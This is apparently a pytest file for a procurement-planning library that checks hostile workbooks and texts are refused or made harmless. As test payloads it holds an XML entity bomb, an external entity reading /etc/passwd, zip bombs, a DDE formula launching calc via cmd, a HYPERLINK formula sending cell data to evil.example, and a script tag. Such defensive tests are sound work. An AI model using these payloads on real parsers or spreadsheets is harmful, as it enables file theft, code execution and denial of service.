"""Workbooks and texts that mean harm: refused in bounded time and memory, or made harmless."""

from __future__ import annotations

import re
import resource
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from copy import deepcopy
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from calloff.errors import InputError
from calloff.faults.draft import MODELS
from calloff.report import tabulate
from calloff_data.read import read, xlsx_parts
from calloff_data.statutory import rulebook
from calloff_data.workbook.book import workbook
from calloff_data.workbook.layout import heading
from calloff_data.write import EXPORTS, WRITERS
from overlays import BASE, write_csv
from report_samples import five
from sheets import repack, write_xlsx

PAINTED = ("png", "pdf")
"""Formats that a browser paints: no text of theirs is ever run."""
SECONDS, MEGABYTES = 10.0, 120
SHEET = "xl/worksheets/sheet1.xml"
TYPES = "[Content_Types].xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROWS = b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_xlsx(tmp_path_factory.mktemp("good") / "good.xlsx")


def sheet(inside: bytes, before: bytes = b"", after: bytes = b"") -> bytes:
    head = f'<?xml version="1.0"?>{before.decode()}<worksheet xmlns="{MAIN}">'.encode()
    return head + b"<sheetData>" + inside + b"</sheetData>" + after + b"</worksheet>"


def part(data: bytes, name: str = SHEET) -> Callable[[str, bytes], bytes]:
    return lambda found, old: data if found == name else old


def refused(path: Path, seconds: float = SECONDS) -> str:
    """What a workbook is refused with; it may take neither long nor much."""
    before, begun = memory(), time.process_time()
    with pytest.raises(InputError) as caught:
        read(path)
    assert time.process_time() - begun < seconds
    assert memory() - before < MEGABYTES
    assert len(caught.value.faults) <= 60
    return str(caught.value)


def memory() -> float:
    """The most that this process has held [MB]."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1e3


LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
    f"<!ENTITY {chr(98 + i)} '{f'&{chr(97 + i)};' * 10}'>".encode() for i in range(9)
) + b"]>"  # fmt: skip
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    ("inside", "before", "words"),
    [
        (b'<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>', LAUGHS, "XML entities"),
        (b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>', OUTSIDE, "XML entities"),
        (b'<row r="1"><c r="XFE1"><v>1</v></c></row>', b"", "beyond the end"),
        (b'<row r="1"><c r="AAAAAAA1"><v>1</v></c></row>', b"", "none of that name"),
        (b'<row r="9999999"><c r="A9999999"><v>1</v></c></row>', b"", "beyond the end"),
        (b'<row r="1">' + b"<c><v>1</v></c>" * 20_000 + b"</row>", b"", "more than 500 columns"),
        (b'<row r="1"><c r="A1"><v>1</v></row>', b"", "damaged"),
    ],
    ids=["laughs", "outside", "column", "far", "row", "columns", "torn"],
)
def test_hostile_sheets_are_refused(inside: bytes, before: bytes, words: str, good: Path, tmp_path: Path) -> None:
    path = repack(good, tmp_path / "p.xlsx", part(sheet(inside, before)))
    assert words in refused(path)


def test_more_cells_than_any_programme_has_are_refused(
    good: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The limit is lowered here: the time grows with it."""
    assert xlsx_parts.MOST_CELLS == 200_000
    monkeypatch.setattr(xlsx_parts, "MOST_CELLS", 20_000)
    path = repack(good, tmp_path / "p.xlsx", part(sheet(b"<row><c><v>1</v></c></row>" * 20_001)))
    assert "cells with something in them" in refused(path, seconds=1.5)


def test_a_claim_to_be_the_largest_sheet_is_not_believed(good: Path, tmp_path: Path) -> None:
    claim = b'<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols><sheetData>'
    path = repack(good, tmp_path / "p.xlsx", lambda name, old: old.replace(b"<sheetData>", claim))
    assert read(path) == read(good)


def test_merged_areas_without_end_are_bounded(good: Path, tmp_path: Path) -> None:
    last = b'<row r="1048576"><c r="B1048576"><v>1</v></c></row></sheetData>'

    def merged(count: int) -> Callable[[str, bytes], bytes]:
        areas = b"".join(f'<mergeCell ref="A1:A{1_000_000 + i}"/>'.encode() for i in range(count))
        after = last + b"<mergeCells>" + areas + b"</mergeCells>"
        return lambda name, old: old.replace(b"</sheetData>", after) if name == SHEET else old

    assert "merged areas" in refused(repack(good, tmp_path / "p.xlsx", merged(5_001)))
    assert "B1048576" in refused(repack(good, tmp_path / "q.xlsx", merged(5_000)))


def test_zip_bombs_are_refused_unopened(good: Path, tmp_path: Path) -> None:
    def inflated(name: str, old: bytes) -> bytes:
        return sheet(ROWS + b" " * 101_000_000) if name == SHEET else old

    path = repack(good, tmp_path / "p.xlsx", inflated)
    assert path.stat().st_size < 1_000_000
    assert "too much" in refused(path)
    many = tmp_path / "many.xlsx"
    with ZipFile(many, "w") as archive:
        for i in range(2_001):
            archive.writestr(f"{TYPES}{i or ''}", b"")
    assert "2,001 parts" in refused(many)


def test_a_bomb_that_lies_about_its_size_yields_no_more_than_it_claims(good: Path, tmp_path: Path) -> None:
    path = repack(good, tmp_path / "p.xlsx", part(sheet(ROWS + b" " * 60_000_000)))
    data = bytearray(path.read_bytes())
    at = data.rindex(SHEET.encode()) - 46  # its entry in the central directory
    assert data[at : at + 4] == b"PK\x01\x02"
    data[at + 24 : at + 28] = struct.pack("<I", 500)
    path.write_bytes(data)
    assert "damaged" in refused(path)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old kind (.xls)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "password"),
        (b"id,title\na,b\n", "not a workbook"),
        (b"", "not a workbook"),
        (b"PK\x03\x04" + bytes(40), "damaged"),
    ],
    ids=["xls", "locked", "csv", "empty", "stub"],
)
def test_what_is_only_named_a_workbook_is_refused(data: bytes, words: str, tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    path.write_bytes(data)
    assert words in refused(path)


def test_other_kinds_in_a_zip_are_refused(good: Path, tmp_path: Path) -> None:
    binary = repack(good, tmp_path / "b.xlsx", lambda name, old: old)
    with ZipFile(binary, "a") as archive:
        archive.writestr("xl/workbook.bin", b"")
    assert ".xlsx" in refused(binary)
    text = repack(good, tmp_path / "o.xlsx", lambda name, old: None if name == TYPES else old)
    assert ".xlsx" in refused(text)
    lacking = repack(good, tmp_path / "l.xlsx", lambda name, old: None if name == SHEET else old)
    assert "lacks its part" in refused(lacking)


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.999])
def test_a_truncated_workbook_is_refused(share: float, good: Path, tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    path.write_bytes(good.read_bytes()[: int(good.stat().st_size * share)])
    assert "damaged or cut short" in refused(path)


def test_a_flipped_byte_never_ends_in_a_traceback(good: Path, tmp_path: Path) -> None:
    data = good.read_bytes()
    path = tmp_path / "p.xlsx"
    for i in range(0, len(data), len(data) // 60):
        path.write_bytes(data[:i] + bytes([data[i] ^ 0xA5]) + data[i + 1 :])
        with suppress(InputError):
            read(path)


# --- texts -------------------------------------------------------------------------------------------

LINK = '=HYPERLINK("http://evil.example/"&A1,"click")'
TEXTS = (
    LINK,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1",
    "<script>alert(1)</script>",
    "]]>&amp;<b>",
    "x" * 10_000,
)


def hostile() -> dict[str, Any]:
    """The base programme with every name, title and note made hostile."""
    tables = deepcopy(BASE)
    turn = 0
    for rows in tables.values():
        for row in [rows] if isinstance(rows, dict) else rows:
            row["title"] = TEXTS[turn % len(TEXTS)]
            row["notes"] = TEXTS[(turn + 1) % len(TEXTS)]
            row[f"x_{TEXTS[turn % 3]}"] = TEXTS[(turn + 2) % len(TEXTS)]
            turn += 1
    for i, row in enumerate(tables["contracts"]):
        row["supplier"] = TEXTS[i]
    return tables


@pytest.fixture(scope="module")
def harmful(tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = tmp_path_factory.mktemp("csv")
    return read(write_csv(hostile(), folder))


def test_hostile_texts_are_texts_in_a_workbook_and_read_back(harmful: Any, tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    path.write_bytes(workbook(harmful, path.name))
    assert read(path) == harmful
    book = load_workbook(path)
    for table in MODELS:
        assert not [c for row in book[heading(table)].iter_rows() for c in row if c.data_type == "f"]
    parts = {name: ZipFile(path).read(name) for name in ZipFile(path).namelist()}
    assert not [name for name, data in parts.items() if b'TargetMode="External"' in data]
    assert not [name for name, data in parts.items() if b"<script>" in data or b"<f>HYPERLINK" in data]


LIKE = {"csv": "zip", "pipeline": "csv", "ocds": "ocds.json", "msproject": "xml"}
"""What files of a format are called, where it is not the format's word."""


def test_hostile_texts_are_harmless_in_every_file_of_a_plan() -> None:
    programme, plan = five()

    def named(rows: Any) -> Any:
        return tuple(
            r.model_copy(update={"title": TEXTS[i % 6], "owner": TEXTS[(i + 1) % 6]}) for i, r in enumerate(rows)
        )

    tables = ("clusters", "contracts", "procurements", "lots", "departments", "systems")
    programme = programme.model_copy(update={name: named(getattr(programme, name)) for name in tables})
    report = tabulate(programme, plan, None, "team", law=rulebook(programme))
    made = {name: data for writer in WRITERS for name, data in writer.files(report).items()}
    made |= {f"plan.{LIKE.get(e.FORMAT, e.FORMAT)}": e.export(report).data for e in EXPORTS if e.FORMAT not in PAINTED}
    found = unzipped(made)
    assert b"evil.example" in b"".join(found.values())
    for name, data in found.items():
        assert b"<script>alert(1)" not in data or name.endswith((".json", ".csv", ".md", ".ics")), name
        assert b"<f>HYPERLINK" not in data, name
        if name.endswith(".csv"):
            assert not re.search(rb'(?m)(^|,)"?[=@+\t]', data), name


def unzipped(files: dict[str, bytes]) -> dict[str, bytes]:
    """Files, and what is inside those that are archives."""
    found = dict(files)
    for name, data in files.items():
        if data.startswith(b"PK"):
            with ZipFile(BytesIO(data)) as archive:
                found |= {f"{name}/{inner}": archive.read(inner) for inner in archive.namelist()}
    return found


def test_names_over_the_limits_are_refused_in_their_cell(tmp_path: Path) -> None:
    tables = deepcopy(BASE)
    tables["clusters"][0]["id"] = "@SUM(1+1)" * 40
    tables["externals"][0]["title"] = "x" * 10_001
    tables["externals"].append({"id": "late", "date": "2027-01-01", "title": "y" * 32_767})
    with pytest.raises(InputError) as caught:
        read(write_xlsx(tmp_path / "p.xlsx", tables=tables))
    told = {f.row.split(" (")[0]: f.problem for f in caught.value.faults if f.problem.startswith("the text")}
    assert told["cell A2"] == "the text is too long"
    assert told["cell C2"] == "the text is too long"
    assert all(len(line) < 1_500 for line in str(caught.value).splitlines())


def test_a_text_longer_than_a_cell_may_be_is_refused(good: Path, tmp_path: Path) -> None:
    long = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"x" * 5_000_000 + b"</t></is></c></row>"
    words = refused(repack(good, tmp_path / "p.xlsx", part(sheet(long))))
    assert "no row of the sheet names" in words
